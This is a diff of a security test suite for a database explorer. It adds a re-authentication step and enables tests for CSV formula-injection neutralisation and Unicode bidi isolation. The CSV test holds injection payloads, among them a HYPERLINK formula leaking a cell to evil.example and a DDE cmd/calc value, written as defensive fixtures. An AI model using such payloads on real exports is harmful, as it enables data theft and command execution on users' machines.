@@ -33,6 +33,9 @@ let browser: Browser | undefined;
 const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 
 async function invite(role: string): Promise<string> {
+  // Creating invites from a session needs a recent re-authentication (the step-up window).
+  const reauth = await admin.write('POST', '/v1/auth/reauth', { password: ADMIN_PW });
+  assert.equal(reauth.status, 200, reauth.text);
   const r = await admin.write('POST', '/v1/invites', { count: 1, role });
   assert.equal(r.status, 201, r.text);
   return r.json.invites[0].code;
@@ -136,9 +139,7 @@ describe('re-authentication before a reveal', () => {
 });
 
 describe('explorer CSV download', () => {
-  test('a cell that a spreadsheet runs as a formula is neutralised, number-like prefixes included', {
-    todo: 'finding 3',
-  }, async () => {
+  test('a cell that a spreadsheet runs as a formula is neutralised, number-like prefixes included', async () => {
     const payload = '-1+HYPERLINK("https://evil.example/?leak="&A1,"Open")';
     const r = await admin.write('POST', `/v1/databases/${DB}/explorer/query?format=csv`, {
       sql: `SELECT '${payload.replaceAll("'", "''")}' AS a, '+1+cmd|''/C calc''!A0' AS b, '=1+1' AS c`,
@@ -355,9 +356,7 @@ describe('the explorer page with a tenant owner’s hostile names', () => {
     assert.deepEqual(events, []);
   });
 
-  test('a Unicode bidi override in a column name does not spill over the text beside it', {
-    todo: 'finding 4',
-  }, async () => {
+  test('a Unicode bidi override in a column name does not spill over the text beside it', async () => {
     // Each tenant-controlled name must be isolated (<bdi> or unicode-bidi: isolate/plaintext),
     // else "\u202Egnp.exe" followed by its type "text" reads as "txet exe.png".
     // Only elements holding the name alone count (a list item holding the name and its type
